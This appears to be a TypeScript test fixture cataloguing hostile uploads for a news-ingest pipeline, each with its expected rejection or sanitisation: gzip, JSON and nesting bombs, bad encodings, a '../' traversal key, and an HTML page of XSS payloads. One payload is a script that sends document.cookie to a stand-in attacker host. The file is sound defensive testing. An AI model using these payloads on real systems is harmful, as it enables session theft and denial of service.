/**
 * The hostile-input catalogue: what anyone with write access to incoming/ might drop, and what must
 * happen to it. Shared by the unit-level suite (ingestBatch + filesystem adapters), the integration
 * variant (ingest handler on s3rver) and the security tests (escaping of hostile markup).
 */
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { generatedArticle } from './articles.ts';

export type Expected =
  /** Processed into a story; `title`/`text` are what the decoded article must contain. */
  | {
      readonly kind: 'story';
      readonly title?: string;
      readonly text?: readonly string[];
      /** Strings that must not reach the article text (script bodies, handler code). */
      readonly absent?: readonly string[];
    }
  /** Rejected (quarantined) with a reason starting with `code:`. */
  | { readonly kind: 'rejected'; readonly code: string };

export interface HostileCase {
  readonly name: string;
  readonly key: string;
  readonly bytes: () => Uint8Array;
  readonly expected: Expected;
}

const encode = (text: string) => new TextEncoder().encode(text);

/** A valid 1×1 transparent PNG (signature, IHDR, IDAT, IEND). */
export function minimalPng(): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
  const idat = deflateRawSync(Buffer.from([0, 0, 0, 0, 0]));
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', ihdr),
      chunk('IDAT', idat),
      chunk('IEND', new Uint8Array()),
    ]),
  );
}

/** A minimal one-page PDF whose page says a whole sentence (text that must not be "extracted"). */
export function minimalPdf(): Uint8Array {
  const stream = 'BT /F1 12 Tf 72 720 Td (The council approved the new harbour wall on Monday.) Tj ET';
  return encode(
    `%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R>> endobj\n4 0 obj <</Length ${stream.length}>> stream\n${stream}\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n`,
  );
}

/** A real ZIP archive (stored, no compression) holding one text article. */
export function minimalZip(name = 'article.txt', content = generatedArticle(9001).text): Uint8Array {
  const data = Buffer.from(content, 'utf8');
  const fileName = Buffer.from(name, 'utf8');
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + fileName.length, 12);
  end.writeUInt32LE(30 + fileName.length + data.length, 16);
  return new Uint8Array(Buffer.concat([local, fileName, data, central, fileName, end]));
}

/** A body long enough to count as an article, about an event of its own. */
function story(index: number): { title: string; body: string } {
  const { title, body } = generatedArticle(index);
  return { title, body };
}

/** Title and text with non-ASCII characters that every legacy/UTF-16 decoding must reproduce exactly. */
const ACCENTED_TITLE = 'Zürich café “Bäckerei Müller” wins award';
const ACCENTED_SENTENCE =
  'The café on the Münsterhof, run by Zoë Dvořák since 1998, was named Zürich’s best bakery — ahead of 40 rivals.';
const LATIN1_TITLE = 'Café owners “celebrate” in Málaga';
const LATIN1_SENTENCE =
  'The façade of the café on the Calle Larios was restored by Señora Peña — at a cost of €40,000 — in time for the fiesta.';

function utf16le(text: string, bom: boolean): Uint8Array {
  const body = Buffer.from(text, 'utf16le');
  return new Uint8Array(bom ? Buffer.concat([Buffer.from([0xff, 0xfe]), body]) : body);
}

function utf16be(text: string): Uint8Array {
  const le = Buffer.from(text, 'utf16le');
  const be = Buffer.alloc(le.length);
  for (let i = 0; i < le.length; i += 2) {
    be[i] = le[i + 1] ?? 0;
    be[i + 1] = le[i] ?? 0;
  }
  return new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), be]));
}

/** Windows-1252 bytes for text whose characters all exist in that code page. */
export function windows1252(text: string): Uint8Array {
  const special: Record<string, number> = { '€': 0x80, '“': 0x93, '”': 0x94, '—': 0x97, '’': 0x92 };
  return new Uint8Array(
    [...text].map((ch) => {
      const code = special[ch] ?? ch.charCodeAt(0);
      if (code > 0xff) throw new Error(`${ch} is not in Windows-1252`);
      return code;
    }),
  );
}

/** An article page wrapped in every kind of active content an attacker might try to smuggle through. */
export function hostileArticleHtml(index = 9100): string {
  const { title, body } = story(index);
  const paragraphs = body
    .split('\n\n')
    .map(
      (p, i) =>
        `<p onclick="steal()" style="background:url(javascript:alert(${i}))">${p.replace(
          /\.$/,
          '',
        )} <a href="javascript:alert(document.cookie)">more</a> <img src=x onerror="alert(1)">.</p>`,
    )
    .join('\n');
  return `<!doctype html><html><head><title>${title}</title>
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<meta property="og:title" content="${title.replace(/ \(report/, ' <script>alert(1)</script> (report')}">
</head><body onload="alert('body')">
<article><h1>${title}<script>alert('h1')</script></h1>
${paragraphs}
<iframe src="javascript:alert(2)"></iframe><svg onload="alert(3)"><a xlink:href="data:text/html,<script>alert(4)</script>">x</a></svg>
<form action="javascript:alert(5)"><input type="submit"></form>
</article></body></html>`;
}

/** Title fragments (the hostile article's) that must show up in the digest. */
export function hostileArticleTitle(index = 9100): string {
  return story(index).title;
}

export const MAX_NESTING_CASE_DEPTH = 10_000;

/**
 * The catalogue. Every key is unique; the good articles use generated indices 9000+ so they never
 * collide with the load test's events. Cases are grouped into batches by `group`.
 */
export const HOSTILE_CASES: Readonly<Record<string, readonly HostileCase[]>> = {
  empty: [
    {
      name: 'empty file',
      key: 'empty.txt',
      bytes: () => new Uint8Array(),
      expected: { kind: 'rejected', code: 'empty' },
    },
    {
      name: 'whitespace only',
      key: 'blank.md',
      bytes: () => encode(' \n\t\r\n\u200b\n   '),
      expected: { kind: 'rejected', code: 'empty' },
    },
    {
      name: 'a headline and nothing else',
      key: 'headline-only.txt',
      bytes: () => encode('Council meets on Tuesday\n'),
      expected: { kind: 'rejected', code: 'no-article-text' },
    },
  ],
  binary: [
    {
      name: 'PNG image',
      key: 'photo.png',
      bytes: minimalPng,
      expected: { kind: 'rejected', code: 'binary' },
    },
    {
      name: 'PNG renamed .txt',
      key: 'photo-renamed.txt',
      bytes: minimalPng,
      expected: { kind: 'rejected', code: 'binary' },
    },
    {
      name: 'PDF document',
      key: 'report.pdf',
      bytes: minimalPdf,
      expected: { kind: 'rejected', code: 'binary' },
    },
    {
      name: 'ZIP archive holding an article',
      key: 'bundle.zip',
      bytes: () => minimalZip(),
      expected: { kind: 'rejected', code: 'binary' },
    },
    {
      name: 'gzip bomb (40 MB of text in ~40 KB)',
      key: 'bomb.txt.gz',
      bytes: () => new Uint8Array(gzipSync(Buffer.alloc(40 * 1024 * 1024, 'a'), { level: 9 })),
      expected: { kind: 'rejected', code: 'too-large' },
    },
  ],
  encoding: [
    {
      name: 'invalid UTF-8 (stray continuation and 0xFF bytes among valid accents)',
      key: 'broken-utf8.txt',
      bytes: () =>
        new Uint8Array([
          ...encode(`${ACCENTED_TITLE}\n\n${story(9010).body}`),
          0xff,
          0x80,
          0xc3,
          ...encode(' trailing words.\n'),
        ]),
      expected: { kind: 'rejected', code: 'invalid-encoding' },
    },
    {
      name: 'UTF-16LE with BOM',
      key: 'utf16le-bom.txt',
      bytes: () => utf16le(`${ACCENTED_TITLE}\n\n${ACCENTED_SENTENCE}\n\n${story(9011).body}\n`, true),
      expected: { kind: 'story', title: ACCENTED_TITLE, text: [ACCENTED_SENTENCE] },
    },
    {
      name: 'UTF-16BE with BOM',
      key: 'utf16be-bom.txt',
      bytes: () =>
        utf16be(`Bern ${ACCENTED_TITLE}\n\n${ACCENTED_SENTENCE} Bern too.\n\n${story(9012).body}\n`),
      expected: { kind: 'story', title: `Bern ${ACCENTED_TITLE}`, text: [`${ACCENTED_SENTENCE} Bern too.`] },
    },
    {
      name: 'UTF-16LE without BOM',
      key: 'utf16le-nobom.txt',
      bytes: () =>
        utf16le(`Basel ${ACCENTED_TITLE}\n\n${ACCENTED_SENTENCE} Basel too.\n\n${story(9013).body}\n`, false),
      expected: {
        kind: 'story',
        title: `Basel ${ACCENTED_TITLE}`,
        text: [`${ACCENTED_SENTENCE} Basel too.`],
      },
    },
    {
      name: 'Windows-1252',
      key: 'cp1252.txt',
      bytes: () => windows1252(`${LATIN1_TITLE}\n\n${LATIN1_SENTENCE}\n\n${story(9014).body}\n`),
      expected: { kind: 'story', title: LATIN1_TITLE, text: [LATIN1_SENTENCE] },
    },
  ],
  html: [
    {
      name: `HTML nested ${MAX_NESTING_CASE_DEPTH.toLocaleString('en')} levels deep`,
      key: 'nested.html',
      bytes: () =>
        encode(
          `<html><body>${'<div>'.repeat(MAX_NESTING_CASE_DEPTH)}<p>${story(9020).body}</p>${'</div>'.repeat(MAX_NESTING_CASE_DEPTH)}</body></html>`,
        ),
      expected: { kind: 'rejected', code: 'too-deep' },
    },
    {
      name: 'HTML nested 10,000 levels, never closed, as .txt',
      key: 'nested-unclosed.txt',
      bytes: () => encode(`<!doctype html><html><body>${'<span><b>'.repeat(5_000)}${story(9021).body}`),
      expected: { kind: 'rejected', code: 'too-deep' },
    },
    {
      name: 'script-only page',
      key: 'script-only.html',
      bytes: () =>
        encode(
          `<!doctype html><html><head><script>document.write(${JSON.stringify(story(9022).body)})</script></head><body><script src="app.js"></script><noscript>Enable JavaScript.</noscript></body></html>`,
        ),
      expected: { kind: 'rejected', code: 'no-article-text' },
    },
    {
      name: 'page with no text',
      key: 'no-text.html',
      bytes: () =>
        encode(
          '<!doctype html><html><head><title>Gallery</title></head><body><div><img src="a.jpg"><img src="b.jpg"></div></body></html>',
        ),
      expected: { kind: 'rejected', code: 'no-article-text' },
    },
    {
      name: 'plain text saved as .html (no markup at all)',
      key: 'plain-text.html',
      bytes: () => encode(generatedArticle(9023).text),
      expected: { kind: 'story', text: [generatedArticle(9023).body.split('\n\n')[1] ?? ''] },
    },
    {
      name: 'fragment opening with <noscript>',
      key: 'noscript-first.htm',
      bytes: () =>
        encode(
          `<noscript>Enable JavaScript</noscript><p>${story(9024).body.replace(/\n\n/g, '</p><p>')}</p>`,
        ),
      expected: { kind: 'story', text: [story(9024).body.split('\n\n')[0] ?? ''] },
    },
    {
      name: 'article page full of scripts, handlers and javascript: links',
      key: 'hostile-markup.html',
      bytes: () => encode(hostileArticleHtml()),
      // og:title carries a literal "<script>" as text: it may stay in the title (the renderer escapes it).
      expected: {
        kind: 'story',
        text: [story(9100).body.split('\n\n')[0]?.replace(/\.$/, '') ?? ''],
        absent: ['document.cookie', 'fetch(', 'steal()', 'onerror', 'javascript:', '<'],
      },
    },
  ],
  json: [
    {
      name: 'JSON that is not an article',
      key: 'config.json',
      bytes: () => encode(JSON.stringify({ version: 3, features: ['a', 'b'], enabled: true })),
      expected: { kind: 'rejected', code: 'not-an-article' },
    },
    {
      name: 'JSON array of articles',
      key: 'many.json',
      bytes: () => encode(JSON.stringify([{ title: 'A', text: story(9030).body }])),
      expected: { kind: 'rejected', code: 'not-an-article' },
    },
    {
      name: 'JSON bomb: 100,000 nested arrays',
      key: 'deep-array.json',
      bytes: () => encode(`${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      expected: { kind: 'rejected', code: 'too-deep' },
    },
    {
      name: 'JSON bomb: 50,000 nested objects inside an article',
      key: 'deep-object.json',
      bytes: () =>
        encode(
          `{"title":"Deep","text":${JSON.stringify(story(9031).body)},"x":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`,
        ),
      expected: { kind: 'rejected', code: 'too-deep' },
    },
    {
      name: 'JSON bomb: a 1,000,000-element array',
      key: 'huge-array.json',
      bytes: () => encode(`[${Array.from({ length: 1_000_000 }, (_, i) => i % 10).join(',')}]`),
      expected: { kind: 'rejected', code: 'not-an-article' },
    },
    {
      name: 'real article carrying a 1,000,000-element array field',
      key: 'article-with-huge-array.json',
      bytes: () => {
        const { title, body } = story(9032);
        return encode(
          `{"title":${JSON.stringify(title)},"maintext":${JSON.stringify(body)},"date_publish":"2022-03-05 10:00:00","tags":[${'0,'.repeat(999_999)}0]}`,
        );
      },
      expected: { kind: 'story', title: story(9032).title },
    },
    {
      name: 'JSON with invalid syntax',
      key: 'broken.json',
      bytes: () => encode(`{"title": "Half an article", "text": "${story(9033).body.slice(0, 200)}`),
      expected: { kind: 'rejected', code: 'not-an-article' },
    },
  ],
  keys: [
    {
      name: 'key with spaces',
      key: 'reports/with some spaces.txt',
      bytes: () => encode(story(9040).title.concat('\n\n', story(9040).body)),
      expected: { kind: 'story', title: story(9040).title },
    },
    {
      name: 'key with plus signs',
      key: 'reports/a+b+c.txt',
      bytes: () => encode(story(9041).title.concat('\n\n', story(9041).body)),
      expected: { kind: 'story', title: story(9041).title },
    },
    {
      name: 'key with unicode and percent',
      key: 'reports/ünïcödé 日本 100%.txt',
      bytes: () => encode(story(9042).title.concat('\n\n', story(9042).body)),
      expected: { kind: 'story', title: story(9042).title },
    },
    {
      name: 'key with .. in names',
      key: 'reports/..hidden..txt',
      bytes: () => encode(story(9043).title.concat('\n\n', story(9043).body)),
      expected: { kind: 'story', title: story(9043).title },
    },
    {
      name: 'key with a ../ traversal, poison content',
      key: '../outside/escape.png',
      bytes: minimalPng,
      expected: { kind: 'rejected', code: 'binary' },
    },
  ],
};

/** The good article added to each hostile batch: it must land in a story whatever its neighbours do. */
export function goodArticle(group: string): { key: string; bytes: Uint8Array; title: string } {
  const index = 9500 + Object.keys(HOSTILE_CASES).indexOf(group);
  const { title, text } = generatedArticle(index);
  return { key: `good-${group}.txt`, bytes: encode(text), title };
}
